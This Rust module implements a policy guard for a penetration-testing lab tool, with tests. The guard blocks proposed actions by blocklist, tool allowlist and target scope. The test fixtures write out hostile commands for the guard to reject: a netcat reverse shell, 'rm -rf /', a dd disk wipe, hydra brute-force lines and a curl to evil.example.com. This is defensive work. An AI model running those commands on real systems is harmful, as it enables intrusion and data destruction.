//! The policy guard.
//!
//! Every action gets exactly one verdict. Checks run in a fixed order and
//! the first failure decides the status and reason:
//!
//! 1. blocklist over the command and description
//! 2. allowlist over the declared tool and the program of every segment of
//!    the command (`;`, `&&`, `||`, `|`, `&`, `$(..)`, backticks)
//! 3. scope over the declared target and every target named in the command
//!
//! Non-allowed actions lose their command and target. An action that already
//! carries a non-allowed verdict keeps it, so sanitizing twice is a no-op.

use std::sync::LazyLock;

use labcoach_core::scope::{extract_targets, is_placeholder, normalize_target};
use labcoach_core::{Policy, PolicyStatus, ProposedAction, Scope};
use regex::Regex;
use tracing::debug;

use crate::errors::Result;
use crate::pattern::BlockPattern;

/// Reason attached to out-of-scope actions.
pub const OUT_OF_SCOPE_REASON: &str = "target outside declared scope";

/// Outcome of checking one action.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Verdict {
    /// Status to attach.
    pub status: PolicyStatus,
    /// Reason, present for every non-allowed status.
    pub reason: Option<String>,
}

impl Verdict {
    fn allowed() -> Self {
        Self {
            status: PolicyStatus::Allowed,
            reason: None,
        }
    }

    fn blocked(reason: impl Into<String>) -> Self {
        Self {
            status: PolicyStatus::Blocked,
            reason: Some(reason.into()),
        }
    }

    fn out_of_scope() -> Self {
        Self {
            status: PolicyStatus::OutOfScope,
            reason: Some(OUT_OF_SCOPE_REASON.to_string()),
        }
    }
}

/// Shell control operators and substitutions that start a new program.
static SEGMENT_SEPARATOR: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\|\||&&|\$\(|[;|&\n`()]").unwrap());

/// Descriptor redirections (`2>&1`, `&>`) whose `&` is not a separator.
static FD_REDIRECT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\d*>>?&\d*-?|&>>?").unwrap());

/// Program name of a command line: first token, path stripped, lowercased.
pub fn command_program(command: &str) -> Option<String> {
    let first = command.split_whitespace().next()?;
    let program = first.rsplit(['/', '\\']).next().unwrap_or(first);
    (!program.is_empty()).then(|| program.to_lowercase())
}

/// Program of every segment of a compound command line, in order.
pub fn command_programs(command: &str) -> Vec<String> {
    let command = FD_REDIRECT.replace_all(command, " > ");
    SEGMENT_SEPARATOR
        .split(&command)
        .filter_map(command_program)
        .collect()
}

/// Compiled [`Policy`] that sanitizes proposed actions.
#[derive(Clone, Debug)]
pub struct PolicyGuard {
    allowed_tools: Vec<String>,
    patterns: Vec<BlockPattern>,
    scope: Scope,
}

impl PolicyGuard {
    /// Compile a policy. Invalid `re:` blocklist entries match literally.
    pub fn new(policy: &Policy) -> Self {
        let patterns = policy
            .blocklist_patterns
            .iter()
            .map(|p| BlockPattern::lenient(p))
            .collect();
        Self::build(policy, patterns)
    }

    /// Compile a policy, rejecting invalid `re:` blocklist entries.
    pub fn try_new(policy: &Policy) -> Result<Self> {
        let patterns = policy
            .blocklist_patterns
            .iter()
            .map(|p| BlockPattern::parse(p))
            .collect::<Result<Vec<_>>>()?;
        Ok(Self::build(policy, patterns))
    }

    fn build(policy: &Policy, patterns: Vec<BlockPattern>) -> Self {
        Self {
            allowed_tools: policy
                .allowed_tools
                .iter()
                .map(|t| t.trim().to_lowercase())
                .filter(|t| !t.is_empty())
                .collect(),
            patterns: patterns
                .into_iter()
                .filter(|p| !p.as_str().trim().is_empty())
                .collect(),
            scope: Scope::new(&policy.target_scope),
        }
    }

    fn tool_allowed(&self, tool: &str) -> bool {
        let tool = tool.trim().to_lowercase();
        self.allowed_tools.iter().any(|t| *t == tool)
    }

    fn check_blocklist(&self, action: &ProposedAction) -> Option<Verdict> {
        let text = format!(
            "{}\n{}",
            action.command.as_deref().unwrap_or_default(),
            action.description
        );
        self.patterns
            .iter()
            .find(|p| p.matches(&text))
            .map(|p| Verdict::blocked(format!("blocklist pattern '{}' matched", p.as_str())))
    }

    fn check_allowlist(&self, action: &ProposedAction) -> Option<Verdict> {
        let programs = action
            .command
            .as_deref()
            .map(command_programs)
            .unwrap_or_default();
        let declared = action.tool.trim();
        let tools: Vec<&str> = Some(declared)
            .filter(|t| !t.is_empty())
            .into_iter()
            .chain(programs.iter().map(String::as_str))
            .collect();
        if tools.is_empty() {
            return Some(Verdict::blocked("tool not in allowlist: no tool named"));
        }
        tools
            .into_iter()
            .find(|t| !self.tool_allowed(t))
            .map(|t| Verdict::blocked(format!("tool not in allowlist: {}", t.to_lowercase())))
    }

    fn check_scope(&self, action: &ProposedAction) -> Option<Verdict> {
        let mut targets: Vec<String> = Vec::new();
        if let Some(target) = action.target.as_deref() {
            if !target.trim().is_empty() && !is_placeholder(target) {
                targets.push(normalize_target(target));
            }
        }
        if let Some(command) = action.command.as_deref() {
            targets.extend(extract_targets(command));
        }
        targets
            .iter()
            .any(|t| !self.scope.contains(t))
            .then(Verdict::out_of_scope)
    }

    /// Verdict for one action, ignoring any status it already carries.
    pub fn check(&self, action: &ProposedAction) -> Verdict {
        self.check_blocklist(action)
            .or_else(|| self.check_allowlist(action))
            .or_else(|| self.check_scope(action))
            .unwrap_or_else(Verdict::allowed)
    }

    /// Attach a verdict to one action.
    pub fn sanitize_action(&self, mut action: ProposedAction) -> ProposedAction {
        let verdict = match action.policy_status {
            Some(status @ (PolicyStatus::Blocked | PolicyStatus::OutOfScope)) => Verdict {
                status,
                reason: action
                    .block_reason
                    .clone()
                    .filter(|r| !r.trim().is_empty())
                    .or_else(|| Some(format!("{status} by policy"))),
            },
            _ => self.check(&action),
        };

        if verdict.status != PolicyStatus::Allowed {
            debug!(
                tool = %action.tool,
                status = %verdict.status,
                reason = verdict.reason.as_deref().unwrap_or_default(),
                "action rejected by policy"
            );
            action.command = None;
            action.target = None;
        }
        action.policy_status = Some(verdict.status);
        action.block_reason = verdict.reason;
        action
    }

    /// Sanitize every action, preserving order.
    pub fn sanitize(&self, actions: Vec<ProposedAction>) -> Vec<ProposedAction> {
        actions
            .into_iter()
            .map(|a| self.sanitize_action(a))
            .collect()
    }
}

/// Sanitize `actions` against `policy`.
pub fn sanitize(actions: Vec<ProposedAction>, policy: &Policy) -> Vec<ProposedAction> {
    PolicyGuard::new(policy).sanitize(actions)
}

// ─────────────────────────────────────────────────────────────────────────────
// Tests
// ─────────────────────────────────────────────────────────────────────────────

#[cfg(test)]
mod tests {
    use super::*;

    fn strings(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| (*s).to_string()).collect()
    }

    fn policy() -> Policy {
        Policy::new(
            strings(&["nmap", "gobuster", "curl", "echo"]),
            strings(&["rm -rf", "shutdown", r"re:dd\s+if="]),
            strings(&["10.10.10.25", "web01.lab.local", "10.10.20.0/24", "*.corp.lab"]),
        )
    }

    fn guard() -> PolicyGuard {
        PolicyGuard::new(&policy())
    }

    #[test]
    fn allowed_action_keeps_fields() {
        let action = ProposedAction::new("nmap", "Service scan")
            .with_command("nmap -sV -Pn 10.10.10.25")
            .with_target("10.10.10.25");
        let out = guard().sanitize_action(action);
        assert_eq!(out.policy_status, Some(PolicyStatus::Allowed));
        assert_eq!(out.command.as_deref(), Some("nmap -sV -Pn 10.10.10.25"));
        assert_eq!(out.target.as_deref(), Some("10.10.10.25"));
        assert!(out.block_reason.is_none());
    }

    #[test]
    fn out_of_scope_target_is_stripped() {
        let action = ProposedAction::new("nmap", "Scan")
            .with_command("nmap -sV 8.8.8.8")
            .with_target("8.8.8.8");
        let out = guard().sanitize_action(action);
        assert_eq!(out.policy_status, Some(PolicyStatus::OutOfScope));
        assert_eq!(out.block_reason.as_deref(), Some(OUT_OF_SCOPE_REASON));
        assert!(out.command.is_none());
        assert!(out.target.is_none());
    }

    #[test]
    fn command_target_is_checked_even_without_declared_target() {
        let action = ProposedAction::new("curl", "Fetch").with_command("curl -s http://evil.example.com/x");
        assert_eq!(guard().check(&action).status, PolicyStatus::OutOfScope);
    }

    #[test]
    fn tool_not_in_allowlist() {
        let action = ProposedAction::new("hydra", "Brute force").with_target("10.10.10.25");
        let out = guard().sanitize_action(action);
        assert_eq!(out.policy_status, Some(PolicyStatus::Blocked));
        assert!(out.block_reason.unwrap().contains("allowlist"));
    }

    #[test]
    fn command_program_must_be_allowed() {
        let action = ProposedAction::new("nmap", "Sneaky").with_command("/usr/bin/hydra -l admin 10.10.10.25");
        let verdict = guard().check(&action);
        assert_eq!(verdict.status, PolicyStatus::Blocked);
        assert_eq!(verdict.reason.as_deref(), Some("tool not in allowlist: hydra"));
    }

    #[test]
    fn chained_programs_must_all_be_allowed() {
        let g = guard();
        for command in [
            "nmap 10.10.10.25; hydra -l root -P pw.lst 10.10.10.25 ssh",
            "nmap 10.10.10.25 && hydra 10.10.10.25",
            "nmap 10.10.10.25 || hydra 10.10.10.25",
            "curl http://web01.lab.local/ | nc 10.10.10.25 4444",
            "echo $(hydra 10.10.10.25)",
            "echo `nc -e /bin/sh 10.10.10.25 4444`",
            "nmap 10.10.10.25 & hydra 10.10.10.25",
        ] {
            let action = ProposedAction::new("nmap", "Chained").with_command(command);
            let out = g.sanitize_action(action);
            assert_eq!(out.policy_status, Some(PolicyStatus::Blocked), "{command}");
            assert!(out.command.is_none(), "{command}");
        }
    }

    #[test]
    fn redirections_are_not_separators() {
        assert_eq!(command_programs("nmap -sV 10.10.10.25 2>&1 > scan.txt"), vec!["nmap"]);
        assert_eq!(command_programs("nmap 10.10.10.25 &> out.txt"), vec!["nmap"]);
        assert_eq!(
            command_programs("nmap 10.10.10.25; /usr/bin/Hydra x | tee log"),
            vec!["nmap", "hydra", "tee"]
        );
        let action = ProposedAction::new("nmap", "Scan").with_command("nmap 10.10.10.25 2>&1");
        assert_eq!(guard().check(&action).status, PolicyStatus::Allowed);
    }

    #[test]
    fn allowlist_is_case_insensitive() {
        let action = ProposedAction::new("NMAP", "Scan").with_command("Nmap 10.10.10.25");
        assert_eq!(guard().check(&action).status, PolicyStatus::Allowed);
    }

    #[test]
    fn blocklist_beats_allowlist() {
        let action = ProposedAction::new("echo", "Cleanup").with_command("echo hi && rm -rf /tmp/x");
        let verdict = guard().check(&action);
        assert_eq!(verdict.status, PolicyStatus::Blocked);
        assert_eq!(verdict.reason.as_deref(), Some("blocklist pattern 'rm -rf' matched"));
    }

    #[test]
    fn blocklist_scans_description() {
        let action = ProposedAction::new("echo", "Note")
            .with_description("then SHUTDOWN the box");
        assert_eq!(guard().check(&action).status, PolicyStatus::Blocked);
    }

    #[test]
    fn first_failing_check_wins() {
        // Blocklisted, unlisted tool and out of scope at once.
        let action = ProposedAction::new("hydra", "All wrong")
            .with_command("hydra 8.8.8.8; shutdown now")
            .with_target("8.8.8.8");
        let verdict = guard().check(&action);
        assert_eq!(verdict.reason.as_deref(), Some("blocklist pattern 'shutdown' matched"));
    }

    #[test]
    fn regex_blocklist_entry() {
        let action = ProposedAction::new("echo", "Disk").with_command("echo x; dd  if=/dev/zero of=/dev/sda");
        assert_eq!(guard().check(&action).status, PolicyStatus::Blocked);
    }

    #[test]
    fn cidr_and_wildcard_scope() {
        let g = guard();
        let inside = ProposedAction::new("nmap", "a").with_target("10.10.20.7");
        let wildcard = ProposedAction::new("curl", "b").with_command("curl http://app.corp.lab/login");
        let apex = ProposedAction::new("curl", "c").with_target("corp.lab");
        assert_eq!(g.check(&inside).status, PolicyStatus::Allowed);
        assert_eq!(g.check(&wildcard).status, PolicyStatus::Allowed);
        assert_eq!(g.check(&apex).status, PolicyStatus::OutOfScope);
    }

    #[test]
    fn ranges_wildcards_and_tld_hosts_are_out_of_scope() {
        let g = guard();
        for command in [
            "nmap -sV 8.8.8.1-254",
            "nmap -sV 8.8.8.*",
            "nmap -sV 10.10.10.20-30",
            "nmap -sV victim.pl",
            "curl victim.sh",
            "curl http://victim.py/",
            "nmap -p 22 root@8.8.8.8",
            "curl 8.8.8.8:8080",
            "curl --resolve web01.lab.local:80:8.8.8.8 http://web01.lab.local/",
        ] {
            let tool = command_program(command).unwrap_or_default();
            let out = g.sanitize_action(ProposedAction::new(tool, "Fetch").with_command(command));
            assert_eq!(out.policy_status, Some(PolicyStatus::OutOfScope), "{command}");
            assert!(out.command.is_none(), "{command}");
        }
    }

    #[test]
    fn ranges_inside_declared_cidr_are_allowed() {
        let g = guard();
        let range = ProposedAction::new("nmap", "Sweep").with_command("nmap -sn 10.10.20.1-254");
        let wildcard = ProposedAction::new("nmap", "Sweep").with_command("nmap -sn 10.10.20.*");
        assert_eq!(g.check(&range).status, PolicyStatus::Allowed);
        assert_eq!(g.check(&wildcard).status, PolicyStatus::Allowed);
    }

    #[test]
    fn literal_ip_does_not_imply_subnet() {
        let action = ProposedAction::new("nmap", "neighbour").with_target("10.10.10.26");
        assert_eq!(guard().check(&action).status, PolicyStatus::OutOfScope);
    }

    #[test]
    fn placeholder_target_is_accepted() {
        let action = ProposedAction::new("nmap", "Scan")
            .with_command("nmap -sV <TARGET_IN_SCOPE>")
            .with_target("<target_in_scope>");
        assert_eq!(guard().check(&action).status, PolicyStatus::Allowed);
    }

    #[test]
    fn empty_scope_rejects_named_targets() {
        let g = PolicyGuard::new(&Policy::new(strings(&["nmap"]), Vec::new(), Vec::new()));
        let named = ProposedAction::new("nmap", "Scan").with_target("10.10.10.25");
        let unnamed = ProposedAction::new("nmap", "Help").with_command("nmap --help");
        assert_eq!(g.check(&named).status, PolicyStatus::OutOfScope);
        assert_eq!(g.check(&unnamed).status, PolicyStatus::Allowed);
    }

    #[test]
    fn action_without_any_tool_is_blocked() {
        let verdict = guard().check(&ProposedAction::new("", "Think harder"));
        assert_eq!(verdict.status, PolicyStatus::Blocked);
        assert!(verdict.reason.unwrap().contains("allowlist"));
    }

    #[test]
    fn prior_rejection_is_sticky() {
        let mut action = ProposedAction::new("nmap", "Scan").with_target("10.10.10.25");
        action.policy_status = Some(PolicyStatus::OutOfScope);
        let out = guard().sanitize_action(action);
        assert_eq!(out.policy_status, Some(PolicyStatus::OutOfScope));
        assert!(out.target.is_none());
        assert!(out.block_reason.is_some_and(|r| !r.is_empty()));
    }

    #[test]
    fn try_new_rejects_invalid_regex() {
        let bad = Policy::new(strings(&["nmap"]), strings(&["re:[oops"]), Vec::new());
        assert!(PolicyGuard::try_new(&bad).is_err());
        assert!(PolicyGuard::try_new(&policy()).is_ok());
    }

    #[test]
    fn sanitize_preserves_order() {
        let actions = vec![
            ProposedAction::new("hydra", "one"),
            ProposedAction::new("nmap", "two").with_target("10.10.10.25"),
            ProposedAction::new("nmap", "three").with_target("8.8.8.8"),
        ];
        let out = sanitize(actions, &policy());
        let titles: Vec<&str> = out.iter().map(|a| a.title.as_str()).collect();
        assert_eq!(titles, vec!["one", "two", "three"]);
        let statuses: Vec<PolicyStatus> = out.iter().filter_map(|a| a.policy_status).collect();
        assert_eq!(statuses, vec![
            PolicyStatus::Blocked,
            PolicyStatus::Allowed,
            PolicyStatus::OutOfScope
        ]);
    }

    mod proptests {
        use super::*;
        use proptest::prelude::*;

        fn arb_action() -> impl Strategy<Value = ProposedAction> {
            let tools = prop::sample::select(vec!["nmap", "hydra", "curl", "echo", ""]);
            let commands = prop::option::of(prop::sample::select(vec![
                "nmap -sV 10.10.10.25",
                "curl http://web01.lab.local/",
                "curl http://8.8.8.8/",
                "echo done; rm -rf /",
                "hydra -l root 10.10.10.25",
                "echo <TARGET_IN_SCOPE>",
            ]));
            let targets = prop::option::of(prop::sample::select(vec![
                "10.10.10.25",
                "8.8.8.8",
                "web01.lab.local",
                "10.10.20.9",
                "",
            ]));
            (tools, commands, targets, "[a-z ]{0,12}").prop_map(|(tool, command, target, desc)| {
                let mut action = ProposedAction::new(tool, "t").with_description(desc);
                action.command = command.map(String::from);
                action.target = target.map(String::from);
                action
            })
        }

        fn arb_ip() -> impl Strategy<Value = String> {
            prop_oneof![
                Just("10.10.10.25".to_string()),
                (0u8..=255).prop_map(|d| format!("10.10.20.{d}")),
                (any::<u8>(), any::<u8>(), any::<u8>(), any::<u8>())
                    .prop_map(|(a, b, c, d)| format!("{a}.{b}.{c}.{d}")),
            ]
        }

        fn arb_target_form() -> impl Strategy<Value = String> {
            (arb_ip(), 0usize..7, 1u8..=255).prop_map(|(ip, form, n)| match form {
                0 => ip,
                1 => format!("{ip}:{n}"),
                2 => format!("root@{ip}"),
                3 => format!("http://{ip}/x"),
                4 => format!("{ip}-{n}"),
                5 => format!("--target={ip}"),
                _ => {
                    let prefix = ip.rsplit_once('.').map_or(ip.as_str(), |(p, _)| p);
                    format!("{prefix}.*")
                }
            })
        }

        fn arb_segment() -> impl Strategy<Value = String> {
            let programs = prop::sample::select(vec!["nmap", "curl", "hydra", "nc", "/usr/bin/nmap"]);
            (programs, prop::collection::vec(arb_target_form(), 1..3))
                .prop_map(|(program, targets)| format!("{program} -v {}", targets.join(" ")))
        }

        fn arb_compound() -> impl Strategy<Value = String> {
            let ops = prop::sample::select(vec!["; ", " && ", " || ", " | ", " & ", "\n"]);
            (arb_segment(), prop::collection::vec((ops, arb_segment()), 0..3)).prop_map(
                |(first, rest)| {
                    rest.into_iter()
                        .fold(first, |acc, (op, seg)| format!("{acc}{op}{seg}"))
                },
            )
        }

        proptest! {
            #[test]
            fn allowed_commands_only_name_scoped_ips_and_allowed_programs(
                command in arb_compound(),
            ) {
                let quad = regex::Regex::new(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}").unwrap();
                let wildcard = regex::Regex::new(r"\d{1,3}\.\d{1,3}\.\d{1,3}\.\*").unwrap();
                let scope = Scope::new(&policy().target_scope);
                let action = ProposedAction::new("nmap", "generated").with_command(command.clone());
                let out = guard().sanitize_action(action);
                if out.is_allowed() {
                    for ip in quad.find_iter(&command) {
                        prop_assert!(scope.contains(ip.as_str()), "{} in {}", ip.as_str(), command);
                    }
                    for program in command_programs(&command) {
                        prop_assert!(["nmap", "curl"].contains(&program.as_str()), "{}", command);
                    }
                    for w in wildcard.find_iter(&command) {
                        prop_assert_eq!(w.as_str(), "10.10.20.*");
                    }
                } else {
                    prop_assert!(out.command.is_none());
                }
            }

            #[test]
            fn sanitize_is_idempotent(actions in prop::collection::vec(arb_action(), 0..6)) {
                let g = guard();
                let once = g.sanitize(actions);
                let twice = g.sanitize(once.clone());
                prop_assert_eq!(once, twice);
            }

            #[test]
            fn rejected_actions_never_carry_runnable_fields(action in arb_action()) {
                let out = guard().sanitize_action(action);
                prop_assert!(out.policy_status.is_some());
                if !out.is_allowed() {
                    prop_assert!(out.command.is_none());
                    prop_assert!(out.target.is_none());
                    prop_assert!(out.block_reason.as_deref().is_some_and(|r| !r.is_empty()));
                }
            }

            #[test]
            fn blocklisted_commands_always_blocked(tool in prop::sample::select(vec!["nmap", "echo", "curl"])) {
                let action = ProposedAction::new(tool, "t").with_command(format!("{tool} x && rm -rf /"));
                prop_assert_eq!(guard().check(&action).status, PolicyStatus::Blocked);
            }
        }
    }
}
